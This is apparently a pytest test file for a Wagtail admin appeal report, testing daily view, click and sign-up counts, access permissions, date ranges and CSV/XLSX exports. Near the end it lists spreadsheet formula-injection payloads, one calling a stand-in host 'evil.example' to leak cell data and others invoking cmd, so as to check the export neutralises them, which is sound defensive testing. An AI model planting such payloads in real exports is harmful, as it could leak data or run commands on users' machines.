"""Counting (membership.stats) and the appeal report in the Wagtail admin."""

import csv
import datetime
import io
import re
import zipfile
from unittest import mock

import pytest
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from django.utils import timezone

from membership import stats
from membership.models import AppealDay
from tests.membership.factories import AppealFactory

pytestmark = pytest.mark.django_db

REPORT = "membership_appeal_report"
RESULTS = "membership_appeal_report_results"


def day(offset=0):
    return timezone.localdate() - datetime.timedelta(days=offset)


def counts(appeal):
    return list(
        AppealDay.objects.filter(appeal=appeal)
        .order_by("date")
        .values_list("date", "views", "clicks", "signups")
    )


# --- stats.record ---------------------------------------------------------------------------------


def test_record_adds_one_to_the_day_total():
    appeal = AppealFactory()
    stats.record(appeal.pk, "view")
    stats.record(appeal.pk, "view")
    stats.record(appeal.pk, "click")
    assert counts(appeal) == [(day(), 2, 1, 0)]


def test_record_keeps_days_apart():
    appeal = AppealFactory()
    stats.record(appeal.pk, "view", date=day(1))
    stats.record(appeal.pk, "view")
    stats.record(appeal.pk, "signup", date=day(1))
    assert counts(appeal) == [(day(1), 1, 0, 1), (day(), 1, 0, 0)]


def test_record_uses_the_date_in_time_zone(settings):
    settings.TIME_ZONE = "Pacific/Kiritimati"  # UTC+14
    appeal = AppealFactory()
    utc_noon = datetime.datetime(2024, 11, 5, 12, 0, tzinfo=datetime.UTC)
    with mock.patch("django.utils.timezone.now", return_value=utc_noon):
        stats.record(appeal.pk, "view")
    assert counts(appeal) == [(datetime.date(2024, 11, 6), 1, 0, 0)]


def test_record_rejects_unknown_events():
    appeal = AppealFactory()
    with pytest.raises(KeyError):
        stats.record(appeal.pk, "dismiss")
    assert not AppealDay.objects.exists()


def test_record_adds_to_a_row_created_by_a_concurrent_request():
    """The first update finds no row; another request creates it before our insert."""
    appeal = AppealFactory()
    AppealDay.objects.create(appeal=appeal, date=day(), views=5)
    real_filter = AppealDay.objects.filter
    calls = []

    def first_update_misses(*args, **kwargs):
        queryset = real_filter(*args, **kwargs)
        calls.append(1)
        if len(calls) == 1:
            return queryset.none()
        return queryset

    with mock.patch.object(AppealDay.objects, "filter", side_effect=first_update_misses):
        stats.record(appeal.pk, "view")
    assert counts(appeal) == [(day(), 6, 0, 0)]


# --- stats.record_signup --------------------------------------------------------------------------


def test_record_signup_counts_a_known_appeal():
    appeal = AppealFactory()
    stats.record_signup(appeal.pk)
    stats.record_signup(appeal.pk, date=day(2))
    assert counts(appeal) == [(day(2), 0, 0, 1), (day(), 0, 0, 1)]


def test_record_signup_counts_an_appeal_that_has_since_ended():
    # The reader clicked yesterday and confirms today, after the appeal was unpublished.
    appeal = AppealFactory()
    appeal.unpublish()
    stats.record_signup(appeal.pk)
    assert counts(appeal) == [(day(), 0, 0, 1)]


@pytest.mark.parametrize(
    "bad", [None, 987654, 0, -1, "", "abc", "²", "１", "1.5", "9" * 40, [], True, 1.0]
)
def test_record_signup_ignores_missing_unknown_and_malformed_ids(bad):
    AppealFactory()
    stats.record_signup(bad)
    assert not AppealDay.objects.exists()


def test_record_signup_accepts_the_id_as_it_comes_from_a_link():
    # The call to action carries ?appeal=<id>: the sign-up work may pass it on as a string.
    appeal = AppealFactory()
    stats.record_signup(str(appeal.pk))
    assert counts(appeal) == [(day(), 0, 0, 1)]


# --- The report: who may see it -----------------------------------------------------------------


def staff_user(django_user_model, username, *permissions):
    user = django_user_model.objects.create_user(
        username=username, email=f"{username}@example.com", password="pw", is_staff=True
    )
    access = Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin")
    user.user_permissions.add(access, *permissions)
    return user


def report_permission():
    return Permission.objects.get(
        content_type__app_label="membership", codename="view_appeal_report"
    )


@pytest.fixture
def reporter(django_user_model):
    group = Group.objects.create(name="Fundraising")
    group.permissions.add(report_permission())
    user = staff_user(django_user_model, "reporter")
    user.groups.add(group)
    return user


def test_staff_without_the_permission_are_turned_away(client, django_user_model):
    client.force_login(staff_user(django_user_model, "editor"))
    for name in (REPORT, RESULTS):
        response = client.get(reverse(name))
        assert response.status_code in (302, 403)
        if response.status_code == 302:
            assert response["Location"] == reverse("wagtailadmin_home")
    export = client.get(reverse(REPORT), {"export": "csv"})
    assert export.status_code in (302, 403)
    assert b"Appeal" not in export.content


def test_anonymous_readers_are_sent_to_log_in(client):
    response = client.get(reverse(REPORT))
    assert response.status_code == 302
    assert reverse("wagtailadmin_login") in response["Location"]


def test_the_permission_through_a_group_opens_the_report(client, reporter):
    client.force_login(reporter)
    assert client.get(reverse(REPORT)).status_code == 200
    assert client.get(reverse(RESULTS)).status_code == 200


def test_the_permission_given_to_the_user_opens_the_report(client, django_user_model):
    client.force_login(staff_user(django_user_model, "direct", report_permission()))
    assert client.get(reverse(REPORT)).status_code == 200


def test_superusers_see_the_report(client, admin_user):
    client.force_login(admin_user)
    assert client.get(reverse(REPORT)).status_code == 200


def test_the_permission_can_be_given_in_the_group_editor(client, admin_user):
    client.force_login(admin_user)
    group = Group.objects.create(name="Fundraising")
    response = client.get(reverse("wagtailusers_groups:edit", args=[group.pk]))
    assert response.status_code == 200
    assert f'value="{report_permission().pk}"' in response.content.decode()


# --- The report: what it shows --------------------------------------------------------------------


@pytest.fixture
def results():
    spring = AppealFactory(name="Spring appeal")
    autumn = AppealFactory(name="Autumn appeal")
    AppealFactory(name="Quiet appeal")
    AppealDay.objects.create(
        appeal=spring, date=datetime.date(2024, 3, 1), views=100, clicks=10, signups=4
    )
    AppealDay.objects.create(
        appeal=spring, date=datetime.date(2024, 3, 2), views=100, clicks=5, signups=1
    )
    # Outside the range below: excluded from its totals.
    AppealDay.objects.create(
        appeal=spring, date=datetime.date(2024, 2, 29), views=1000, signups=500
    )
    AppealDay.objects.create(appeal=spring, date=datetime.date(2024, 3, 4), views=1000, signups=500)
    AppealDay.objects.create(
        appeal=autumn, date=datetime.date(2024, 3, 3), views=50, clicks=2, signups=0
    )
    return spring, autumn


RANGE = {"start": "2024-03-01", "end": "2024-03-03"}


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv_export_has_totals_and_conversion_over_the_range(client, reporter, results):
    client.force_login(reporter)
    rows = csv_rows(client.get(reverse(REPORT), {**RANGE, "export": "csv"}))
    assert rows[0] == [
        "Appeal",
        "Views",
        "Clicks",
        "Sign-ups",
        "Click-through (%)",
        "Conversion (%)",
    ]
    by_name = {row[0]: row[1:] for row in rows[1:]}
    assert set(by_name) == {"Spring appeal", "Autumn appeal", "Quiet appeal"}
    assert by_name["Spring appeal"][:3] == ["200", "15", "5"]
    assert float(by_name["Spring appeal"][3]) == pytest.approx(7.5)
    assert float(by_name["Spring appeal"][4]) == pytest.approx(2.5)
    assert by_name["Autumn appeal"][:3] == ["50", "2", "0"]
    assert float(by_name["Autumn appeal"][3]) == pytest.approx(4.0)
    assert float(by_name["Autumn appeal"][4]) == 0
    # No views: no division by zero.
    assert by_name["Quiet appeal"][:3] == ["0", "0", "0"]
    assert float(by_name["Quiet appeal"][3]) == 0
    assert float(by_name["Quiet appeal"][4]) == 0


def test_csv_export_holds_only_what_the_report_needs(client, reporter, results):
    client.force_login(reporter)
    rows = csv_rows(client.get(reverse(REPORT), {**RANGE, "export": "csv"}))
    assert all(len(row) == 6 for row in rows)
    text = "\n".join(",".join(row) for row in rows)
    assert "reporter@example.com" not in text


def test_the_range_is_inclusive_and_can_be_a_single_day(client, reporter, results):
    client.force_login(reporter)
    rows = csv_rows(
        client.get(reverse(REPORT), {"start": "2024-03-02", "end": "2024-03-02", "export": "csv"})
    )
    by_name = {row[0]: row[1:4] for row in rows[1:]}
    assert by_name["Spring appeal"] == ["100", "5", "1"]
    assert by_name["Autumn appeal"] == ["0", "0", "0"]


def test_a_reversed_range_is_read_the_right_way_round(client, reporter, results):
    client.force_login(reporter)
    rows = csv_rows(
        client.get(reverse(REPORT), {"start": "2024-03-03", "end": "2024-03-01", "export": "csv"})
    )
    by_name = {row[0]: row[1:4] for row in rows[1:]}
    assert by_name["Spring appeal"] == ["200", "15", "5"]


@pytest.mark.parametrize(
    "params",
    [
        {"start": "not-a-date"},
        {"start": "2024-02-30", "end": "2024-03-01"},
        {"end": "99999-01-01"},
        {"start": "2024-03-01", "end": ""},
        {"start": "<script>"},
    ],
)
def test_bad_dates_never_500(client, reporter, results, params):
    client.force_login(reporter)
    response = client.get(reverse(REPORT), params)
    assert response.status_code == 200
    assert "<script>" not in response.content.decode()
    assert client.get(reverse(REPORT), {**params, "export": "csv"}).status_code == 200


def test_the_default_range_is_the_last_30_days(client, reporter):
    appeal = AppealFactory(name="Recent appeal")
    AppealDay.objects.create(appeal=appeal, date=day(0), views=7, signups=1)
    AppealDay.objects.create(appeal=appeal, date=day(29), views=3)
    AppealDay.objects.create(appeal=appeal, date=day(30), views=1000)
    client.force_login(reporter)
    rows = csv_rows(client.get(reverse(REPORT), {"export": "csv"}))
    assert rows[1][:4] == ["Recent appeal", "10", "0", "1"]


def test_the_page_lists_appeals_with_totals_and_a_chart(client, reporter):
    appeal = AppealFactory(name="Charted appeal")
    AppealDay.objects.create(appeal=appeal, date=day(1), views=40, clicks=4, signups=2)
    AppealDay.objects.create(appeal=appeal, date=day(40), views=999)
    client.force_login(reporter)
    response = client.get(reverse(REPORT))
    html = response.content.decode()
    assert "Charted appeal" in html
    assert "10.00 %" in html  # click-through: 4 clicks in 40 views
    assert "5.00 %" in html  # conversion: 2 sign-ups in 40 views
    assert "<svg" in html and "<polyline" in html
    # The chart covers the last 30 days only.
    assert "Views: 40." in html
    assert "Sign-ups: 2." in html
    assert "999" not in html
    # Each appeal links to its editor.
    assert reverse("wagtailsnippets_membership_appeal:edit", args=[appeal.pk]) in html


def test_the_results_view_filters_by_the_range(client, reporter, results):
    client.force_login(reporter)
    html = client.get(reverse(RESULTS), RANGE).content.decode()
    assert "Spring appeal" in html
    assert "2.50 %" in html
    assert "1,000" not in html and "1000" not in html.replace("viewBox", "")


def test_xlsx_export_is_a_spreadsheet(client, reporter, results):
    openpyxl = pytest.importorskip("openpyxl")
    client.force_login(reporter)
    response = client.get(reverse(REPORT), {**RANGE, "export": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content[:2] == b"PK"
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][-2:] == ["Click-through (%)", "Conversion (%)"]
    by_name = {row[0]: row[1:] for row in rows[1:]}
    assert by_name["Spring appeal"][:3] == [200, 15, 5]
    assert float(by_name["Spring appeal"][4]) == pytest.approx(2.5)


def test_the_report_is_in_the_reports_menu_only_for_those_allowed(
    client, reporter, django_user_model
):
    url = reverse(REPORT)
    client.force_login(reporter)
    assert url in client.get(reverse("wagtailadmin_home")).content.decode()
    client.force_login(staff_user(django_user_model, "editor"))
    assert url not in client.get(reverse("wagtailadmin_home")).content.decode()


# --- The export: names a spreadsheet would run as formulas ----------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_appeals():
    for name in HOSTILE_NAMES:
        appeal = AppealFactory(name=name)
        AppealDay.objects.create(appeal=appeal, date=day(), views=10, clicks=1, signups=1)
    AppealFactory(name="Spring appeal 2024")
    AppealFactory(name="O'Brien's fund: 50% = half")


def test_csv_export_neutralises_formulas_and_leaves_the_rest_alone(
    client, reporter, hostile_appeals
):
    client.force_login(reporter)
    rows = csv_rows(client.get(reverse(REPORT), {"export": "csv"}))
    names = [row[0] for row in rows[1:]]
    # OWASP: a leading quote makes a spreadsheet read the cell as text.
    assert sorted(names) == sorted(
        ["'" + name for name in HOSTILE_NAMES]
        + ["Spring appeal 2024", "O'Brien's fund: 50% = half"]
    )
    by_name = {row[0]: row[1:] for row in rows[1:]}
    assert by_name["'-2+3"][:3] == ["10", "1", "1"]
    assert float(by_name["'-2+3"][3]) == pytest.approx(10.0)


def test_xlsx_export_writes_names_as_text_never_as_formulas(client, reporter, hostile_appeals):
    openpyxl = pytest.importorskip("openpyxl")
    client.force_login(reporter)
    response = client.get(reverse(REPORT), {"export": "xlsx"})
    content = b"".join(response.streaming_content) if response.streaming else response.content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(min_row=2))
    names = {row[0].value for row in rows}
    assert all(row[0].data_type == "s" for row in rows)
    # The names themselves, as typed: a text cell is never run. (XML reads a carriage return
    # as a line feed.)
    typed = {name.replace("\r", "\n") for name in HOSTILE_NAMES}
    assert names == typed | {"Spring appeal 2024", "O'Brien's fund: 50% = half"}
    numbers = {row[0].value: [cell.value for cell in row[1:4]] for row in rows}
    assert numbers["-2+3"] == [10, 1, 1]


def test_the_chart_labels_its_axes_with_dates_and_counts(client, reporter):
    appeal = AppealFactory(name="Charted appeal")
    AppealDay.objects.create(appeal=appeal, date=day(1), views=40, clicks=4, signups=2)
    client.force_login(reporter)
    html = client.get(reverse(REPORT)).content.decode()
    start = html.index('<svg class="appeal-chart"')
    svg = html[start : html.index("</svg>", start)]
    labels = re.findall(r"<text[^>]*>([^<]+)</text>", svg)
    first, last = day(29), day(0)
    assert labels[0] == f"{first.day} {first:%b}"
    assert f"{last.day} {last:%b}" in labels
    assert [label for label in labels if label.isdigit()] == ["0", "20", "40"]


def test_the_chart_sits_in_the_admin_s_padded_layout(client, reporter):
    client.force_login(reporter)
    html = client.get(reverse(REPORT)).content.decode()
    section = r'<section class="nice-padding[^"]*" aria-labelledby="appeal-chart-heading"'
    assert re.search(section, html)


def test_a_confirmed_sign_up_through_an_appeal_shows_in_the_report(client, reporter):
    appeal = AppealFactory(name="Converting appeal")
    stats.record_signup(str(appeal.pk))
    client.force_login(reporter)
    rows = csv_rows(client.get(reverse(REPORT), {"export": "csv"}))
    assert rows[1][:4] == ["Converting appeal", "0", "0", "1"]
